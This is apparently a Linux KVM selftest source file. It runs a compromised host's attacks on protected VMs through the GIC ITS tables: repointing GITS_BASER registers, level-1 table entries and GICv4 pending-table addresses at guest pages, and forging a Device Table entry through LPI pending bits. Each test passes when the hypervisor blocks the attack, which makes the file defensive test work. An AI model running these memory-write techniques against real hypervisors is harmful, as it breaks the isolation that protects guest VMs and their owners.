// SPDX-License-Identifier: GPL-2.0-only
/*
 * pkvm_its_tables - A compromised host attacks protected VMs through the
 * ITS tables.
 *
 * The ITS keeps its Device, Collection and vPE Tables in memory that
 * GITS_BASER<n> names, flat or two-level, and writes their entries by
 * physical address when it executes commands: MAPD writes a Device Table
 * entry, MAPC a Collection Table entry, VMAPP a vPE entry, and with GICv4
 * the redistributors set pending bits in the virtual pending table that
 * VMAPP names. A host that can point GITS_BASER<n> or a level-1 entry at a
 * protected VM's (pVM's) page, or offer memory that the GIC itself writes
 * as a level-2 page, makes the ITS write into the pVM. A root user in such
 * a host reaches the ITS and its tables through /dev/mem, and finds the
 * physical address of the pVM's pages in /proc/self/pagemap.
 *
 * Each test is one such attack against a fresh victim pVM that fills its
 * pages with a canary and checks it once the attack is over. A test passes
 * when the attack is blocked: the canary is intact, the victim still runs,
 * and the system still works (an MSI of a virtio device is delivered, the
 * ITS driver's commands complete, another pVM runs). It fails when the
 * attack lands. It is skipped, with the reason, when KVM cannot create
 * protected VMs, /dev/mem does not reach the GIC, or this GIC cannot express
 * the attack (e.g. a flat Device Table, no GICv4). A "test error:"
 * diagnostic marks a failure of the test itself.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>

#include <linux/align.h>
#include <linux/bitfield.h>
#include <linux/sizes.h>

#include "kvm_util.h"
#include "pkvm_its_host.h"
#include "pkvm_its_test.h"
#include "test_util.h"

/* VMAPTI Dbell_pINTID: no doorbell */
#define VMAPTI_NO_DOORBELL	1023

/*
 * Attack: dt_l1_in_pvm
 *
 * The Device Table is two-level. The host marks an unused level-1 entry valid
 * with the address of a page of the pVM, then sends MAPD for a DeviceID that
 * this entry covers: the ITS writes the Device Table entry into the guest
 * (at 0x40 in the page). Then the host changes the address of a level-1 entry
 * that is valid, and stays valid, to that page, and sends MAPD again: the ITS
 * writes into the guest again (at 0xe00), until the entry is put back.
 *
 * The hypervisor must own the level-1 table and fill its entries itself, with
 * level-2 pages it owns, and check both a change of Valid and a change of the
 * address of an entry that stays valid.
 */
PKVM_ITS_ATTACK_TEST(dt_l1_in_pvm, LAYOUT_ALL, 5)
{
	u64 epp = host_gic.dt.psz / host_gic.dt.esz, nr_l1, *l1, moved, pa = c->v.pa[TARGET_PAGE];
	struct its_cmd_block cmd[2];
	int i, unused = -1, used = -1;
	u32 devid;

	if (!host_gic.dt.indirect) {
		attack_set(c, ATTACK_NA, "the Device Table is flat");
		return;
	}

	l1 = map_phys(host_gic.dt.pa, host_gic.dt.size);
	TEST_ASSERT(l1, "Cannot map the level-1 Device Table");
	nr_l1 = min_t(u64, host_gic.dt.size / 8, DIV_ROUND_UP(BIT_ULL(host_gic.dev_bits), epp));
	for (i = nr_l1 - 1; i >= 0; i--) {
		if (!READ_ONCE(l1[i]) && unused < 0)
			unused = i;
		if (READ_ONCE(l1[i]) & GITS_LVL1_ENTRY_VALID)
			used = i;
	}
	if (unused < 0 && used < 0) {
		attack_set(c, ATTACK_NA, "no level-1 Device Table entry to use");
		return;
	}

	if (unused >= 0) {
		devid = unused * epp + 0x40 / host_gic.dt.esz;
		ksft_print_msg("unused level-1 entry %d -> 0x%lx, MAPD 0x%x\n", unused, pa, devid);
		c->l1e_saved = 0;
		c->l1e = &l1[unused];
		WRITE_ONCE(l1[unused], GITS_LVL1_ENTRY_VALID | pa);
		its_cmd_mapd(&cmd[0], devid, c->host_pa[0], 0, true);
		its_cmd_mapd(&cmd[1], devid, 0, 0, false);
		its_send(c, cmd, 2);
		WRITE_ONCE(l1[unused], 0);
		c->l1e = NULL;
	}

	if (used >= 0) {
		devid = used * epp + 0xe00 / host_gic.dt.esz;
		c->l1e_saved = READ_ONCE(l1[used]);
		moved = (c->l1e_saved & ~GITS_LVL1_ENTRY_ADDR) | pa;
		ksft_print_msg("valid level-1 entry %d: 0x%lx -> 0x%lx, MAPD 0x%x\n", used,
			       c->l1e_saved, moved, devid);
		c->l1e = &l1[used];
		WRITE_ONCE(l1[used], moved);
		its_cmd_mapd(&cmd[0], devid, c->host_pa[0], 0, true);
		its_cmd_mapd(&cmd[1], devid, 0, 0, false);
		its_send(c, cmd, 2);
		WRITE_ONCE(l1[used], c->l1e_saved);
		c->l1e = NULL;
	}
}

/*
 * Make a level-1 vPE Table entry valid, with a page of the host that is not
 * aligned to the table's page size (QEMU does not check). A hypervisor that
 * takes level-2 pages from the host refuses it, and the attack goes on
 * without it: given an aligned page, it would take the whole ITS page around
 * it, memory of the host that is still in use.
 */
static void vpe_l1e_set(struct attack_ctx *c, struct its_table *t, u64 *l1e)
{
	struct store64 st = { .addr = l1e };
	int i;

	/* Page 0 is the ITT of the case. */
	for (i = 1; i < NR_HOST_PAGES && !(c->host_pa[i] & (t->psz - 1)); i++)
		;
	if (i == NR_HOST_PAGES) {
		ksft_print_msg("no host page off a %u-byte boundary: level-1 entry left alone\n",
			       t->psz);
		return;
	}

	c->l1e_saved = READ_ONCE(*l1e);
	c->l1e = l1e;
	st.val = GITS_LVL1_ENTRY_VALID | c->host_pa[i];
	if (guarded(store64, &st))
		ksft_print_msg("level-1 vPE Table entry refused\n");
}

/*
 * Attack: gicv4_vpt_in_pvm
 *
 * GICv4 only. The host maps a vPE whose virtual pending table (VMAPP VPT_addr,
 * 64 KiB aligned) is the block holding a page of the pVM, maps a device event
 * to a vLPI of that vPE (VMAPTI) and fires it (INT): with the vPE not
 * resident, the redistributor sets the vLPI's pending bit in memory, in the
 * guest's page. The vPE Table is two-level and unused in protected mode, so
 * the host also marks a level-1 entry valid with one of its pages, as the
 * driver would (the attack goes on if that is refused). GITS_SGIR, which
 * injects vSGIs into any vPE, needs GICv4.1.
 *
 * The hypervisor must check VPT_addr/VPT_size (and VCONF_addr on GICv4.1) of
 * every VMAPP against memory the host owns and pin it, like an ITT, and own
 * GITS_SGIR.
 */
PKVM_ITS_ATTACK_TEST(gicv4_vpt_in_pvm, LAYOUT_ALL, 6)
{
	struct its_table *t = &host_gic.vt;
	u32 vpeid, vintid, vpt_size = host_gic.id_bits - 1;
	struct its_cmd_block cmd[4];
	u64 table, *l1e;
	int p;

	if (host_gic.version < 4 || !host_gic.vlpis) {
		attack_set(c, ATTACK_NA, "GICv%d: the ITS has no virtual LPI support",
			   host_gic.version);
		return;
	}
	if (!host_gic.v41)
		ksft_print_msg("GITS_SGIR not tried: it needs GICv4.1, this ITS is GICv4.0\n");

	p = pick_pending_page(c, BIT(host_gic.id_bits), &table, &vintid);
	if (p < 0) {
		attack_set(c, ATTACK_NA, "no guest page in the first 8 KiB of a 64 KiB block");
		return;
	}

	vpeid = min_t(u64, t->idx < 0 ? BIT(16) : t->nr_ids, BIT(16)) - 2;
	if (t->idx >= 0 && t->indirect) {
		l1e = table_l1e(t, vpeid);
		TEST_ASSERT(l1e, "Cannot map the level-1 vPE Table");
		if (!(READ_ONCE(*l1e) & GITS_LVL1_ENTRY_VALID))
			vpe_l1e_set(c, t, l1e);
	}
	ksft_print_msg("vPE %u, VPT 0x%lx, vINTID %u -> byte 0x%lx in guest page %d\n", vpeid,
		       table, vintid, table + vintid / 8, p);

	its_cmd_vmapp(&cmd[0], vpeid, host_gic.rd0_target, table, vpt_size, true);
	its_cmd_mapd(&cmd[1], c->devid, c->host_pa[0], 0, true);
	its_cmd_vmapti(&cmd[2], c->devid, 0, vpeid, vintid, VMAPTI_NO_DOORBELL);
	its_cmd_event(&cmd[3], GITS_CMD_INT, c->devid, 0);
	if (!its_send(c, cmd, 4)) {
		/* No DISCARD: it would clear the bit in the guest again. */
		its_cmd_mapd(&cmd[0], c->devid, 0, 0, false);
		its_cmd_vmapp(&cmd[1], vpeid, host_gic.rd0_target, 0, 0, false);
		its_send(c, cmd, 2);
	}

	if (c->l1e) {
		WRITE_ONCE(*c->l1e, c->l1e_saved);
		c->l1e = NULL;
	}
}

/*
 * Point GITS_BASER<n> of @t at the victim's page (one flat 4 KiB page), with
 * the ITS disabled as the architecture requires, send @cmds, and restore.
 */
static void baser_repoint(struct attack_ctx *c, struct its_table *t,
			  const struct its_cmd_block *cmds, u32 n)
{
	u64 orig, val, off = GITS_BASER + 8 * t->idx;

	orig = rd64(host_gic.its, off);
	val = orig & ~(GITS_BASER_INDIRECT | GITS_BASER_PHYS_ADDR_4K | GITS_BASER_PAGE_SIZE_MASK |
		       GITS_BASER_SIZE_MASK);
	val |= (c->v.pa[TARGET_PAGE] & GITS_BASER_PHYS_ADDR_4K) | GITS_BASER_PAGE_SIZE_4K;

	its_disable(c);
	c->baser_saved = orig;
	c->baser_idx = t->idx;
	wr64(host_gic.its, off, val);
	ksft_print_msg("GITS_BASER%d: 0x%lx -> 0x%lx (read back 0x%lx)\n", t->idx, orig, val,
		       rd64(host_gic.its, off));
	its_enable(c);

	its_send(c, cmds, n);

	its_disable(c);
	wr64(host_gic.its, off, orig);
	c->baser_idx = -1;
	its_enable(c);
}

/*
 * Attack: baser_ct_in_pvm
 *
 * The host disables the ITS, waits for it to be quiescent, points the
 * Collection Table's GITS_BASER<n> at a page of the pVM and enables the ITS
 * again; then MAPC writes a Collection Table entry at base + ICID x 8, i.e.
 * into the guest.
 *
 * The hypervisor must own GITS_BASER<n> (and GITS_CTLR), keep the tables it
 * allocated in them, and refuse or ignore host writes.
 */
PKVM_ITS_ATTACK_TEST(baser_ct_in_pvm, LAYOUT_ALL, 13)
{
	struct its_cmd_block cmd[2];

	if (host_gic.ct.idx < 0) {
		attack_set(c, ATTACK_NA, "the ITS has no Collection Table in memory");
		return;
	}

	its_cmd_mapc(&cmd[0], 64, host_gic.rd0_target, true);
	its_cmd_mapc(&cmd[1], 64, 0, false);
	baser_repoint(c, &host_gic.ct, cmd, 2);
}

/*
 * Attack: baser_dt_in_pvm
 *
 * As baser_ct_in_pvm, for the Device Table: with its GITS_BASER<n> pointing
 * at a page of the pVM (flat), MAPD writes the Device Table entry into it.
 */
PKVM_ITS_ATTACK_TEST(baser_dt_in_pvm, LAYOUT_ALL, 14)
{
	struct its_cmd_block cmd[2];

	its_cmd_mapd(&cmd[0], 0x1c0, c->host_pa[0], 0, true);
	its_cmd_mapd(&cmd[1], 0x1c0, 0, 0, false);
	baser_repoint(c, &host_gic.dt, cmd, 2);
}

/*
 * Attack: pendtable_as_l2
 *
 * A redistributor's LPI pending table is memory the GIC writes. Offered as a
 * level-2 page of the Device Table, it gives the host Device Table entries
 * that it can rewrite through the redistributor, whoever owns the page. The
 * host reads CPU0's pending table address from GICR_PENDBASER and writes it,
 * with Valid, into an unused level-1 entry of the Device Table. It maps a
 * device whose entry falls at byte offset o >= 1024 of that page (8-byte
 * entries on QEMU): the ITS writes the entry into the pending table, over
 * the pending bits of LPIs 8o..8o+63. The host maps those 64 LPIs to the
 * events of a relay device, on a collection of CPU0, disabled in the LPI
 * property table so that no CPU takes them, and rewrites the entry bit by bit
 * with INT (set) and CLEAR (clear), until its ITT address is a page of the
 * pVM. MAPTI for the forged device then writes an ITE into the guest.
 *
 * The hypervisor must own the LPI pending tables, and refuse them, like any
 * memory a device writes, as level-2 pages.
 */
#define DTE_BITS		64

PKVM_ITS_ATTACK_TEST(pendtable_as_l2, LAYOUT_ALL, 17)
{
	struct its_table *t = &host_gic.dt;
	u64 epp = t->psz / t->esz, nr_l1, *l1, pend_pa, want, itt_r, itt_d;
	u32 relay = c->devid, relay_len = ALIGN(DTE_BITS * host_gic.ite_size, 256);
	u32 devid, lpi, o, n = 0;
	struct its_cmd_block cmd[DTE_BITS + 8];
	struct store64 st;
	u8 *pend, *prop;
	int u = -1, i;

	if (!its_dte_format_is_qemu()) {
		attack_set(c, ATTACK_NA, "IMPLEMENTATION DEFINED Device Table entries, not QEMU's");
		return;
	}
	if (!t->indirect) {
		attack_set(c, ATTACK_NA, "the Device Table is flat");
		return;
	}

	pend_pa = GICR_PENDBASER_ADDRESS(rd64(host_gic.rd[0], GICR_PENDBASER));
	pend = map_phys(pend_pa, SZ_64K);
	prop = map_phys(GICR_PROPBASER_ADDRESS(rd64(host_gic.rd[0], GICR_PROPBASER)),
			host_gic.lpi_limit - GIC_LPI_BASE);
	l1 = map_phys(t->pa, t->size);
	TEST_ASSERT(pend && prop && l1, "Cannot map the LPI tables or the level-1 Device Table");

	nr_l1 = min_t(u64, t->size / 8, DIV_ROUND_UP(BIT_ULL(host_gic.dev_bits), epp));
	for (i = nr_l1 - 1; i >= 0 && u < 0; i--)
		if (!rd64(l1, i * sizeof(*l1)))
			u = i;
	if (u < 0) {
		attack_set(c, ATTACK_NA, "no unused level-1 Device Table entry");
		return;
	}

	/*
	 * An entry over 64 LPIs that are not pending and disabled, half way up
	 * the LPI range: away from the driver's LPIs and the cases' (the top).
	 */
	o = ALIGN_DOWN(min_t(u64, host_gic.lpi_limit / 8, t->psz) / 2, 8);
	for (; o >= GIC_LPI_BASE / 8; o -= 8) {
		for (i = 0; i < 8 && !READ_ONCE(pend[o + i]); i++)
			;
		if (i < 8)
			continue;
		for (i = 0; i < DTE_BITS; i++)
			if (READ_ONCE(prop[o * 8 - GIC_LPI_BASE + i]) & LPI_PROP_ENABLED)
				break;
		if (i == DTE_BITS)
			break;
	}
	if (o < GIC_LPI_BASE / 8) {
		attack_set(c, ATTACK_NA, "no Device Table entry over 64 free LPIs");
		return;
	}
	lpi = o * 8;
	devid = u * epp + o / t->esz;
	itt_r = itt_space(c, relay_len + 256);
	itt_d = itt_r + relay_len;

	c->l1e_saved = 0;
	c->l1e = &l1[u];
	st.addr = &l1[u];
	st.val = GITS_LVL1_ENTRY_VALID | pend_pa;
	if (guarded(store64, &st)) {
		ksft_print_msg("level-1 entry %d: pending table 0x%lx refused\n", u, pend_pa);
		c->l1e = NULL;
		return;
	}
	ksft_print_msg("level-1 entry %d -> CPU0's pending table 0x%lx (reads back 0x%lx)\n", u,
		       pend_pa, rd64(l1, u * sizeof(*l1)));
	ksft_print_msg("DeviceID 0x%x: entry at +0x%x, over LPIs %u-%u\n", devid, o, lpi,
		       lpi + DTE_BITS - 1);

	its_cmd_mapc(&cmd[n++], host_gic.my_icid, host_gic.rd0_target, true);
	/* Size: EventID bits - 1 */
	its_cmd_mapd(&cmd[n++], relay, itt_r, fls(DTE_BITS - 1) - 1, true);
	for (i = 0; i < DTE_BITS; i++)
		its_cmd_mapti(&cmd[n++], relay, i, lpi + i, host_gic.my_icid);
	its_cmd_mapd(&cmd[n++], devid, itt_d, 0, true);
	if (its_send(c, cmd, n))
		goto out;

	/* What the ITS wrote; a hypervisor that took the page hides it. */
	st.addr = (u64 *)(pend + o);
	st.val = qemu_dte(itt_d);
	if (guarded(load64, &st))
		ksft_print_msg("the pending table is no longer readable: entry 0x%lx assumed\n",
			       st.val);
	else
		ksft_print_msg("Device Table entry in the pending table: 0x%lx\n", st.val);

	want = qemu_dte(c->v.pa[TARGET_PAGE]);
	for (n = 0, i = 0; i < DTE_BITS; i++)
		if ((st.val ^ want) & BIT_ULL(i))
			its_cmd_event(&cmd[n++], want & BIT_ULL(i) ? GITS_CMD_INT : GITS_CMD_CLEAR,
				      relay, i);
	if (its_send(c, cmd, n))
		goto out;
	if (!guarded(load64, &st))
		ksft_print_msg("forged entry 0x%lx, wanted 0x%lx\n", st.val, want);

	its_cmd_mapti(&cmd[0], devid, 0, c->lpi, 0);
	its_send(c, cmd, 1);
out:
	/* MAPD V=0 writes an invalid, all-zero, entry: no LPI is left pending. */
	n = 0;
	its_cmd_mapd(&cmd[n++], devid, 0, 0, false);
	for (i = 0; i < DTE_BITS; i++)
		its_cmd_event(&cmd[n++], GITS_CMD_DISCARD, relay, i);
	its_cmd_mapd(&cmd[n++], relay, 0, 0, false);
	its_cmd_mapc(&cmd[n++], host_gic.my_icid, 0, false);
	its_send(c, cmd, n);

	st.addr = &l1[u];
	st.val = 0;
	if (guarded(store64, &st))
		ksft_print_msg("level-1 entry %d could not be cleared again\n", u);
	c->l1e = NULL;
}

PKVM_ITS_ATTACK_TEST(gicv41_vpe_invall, LAYOUT_NONE, 24)
{
	attack_set(c, ATTACK_NA, "QEMU 7.2 models GICv4.0, not GICv4.1");
}

/* A property table at physical address 0 once disabled the same-table check. */

int main(int argc, char *argv[])
{
	char **args = pkvm_its_init(&argc, argv);

	return test_harness_run(argc, args);
}
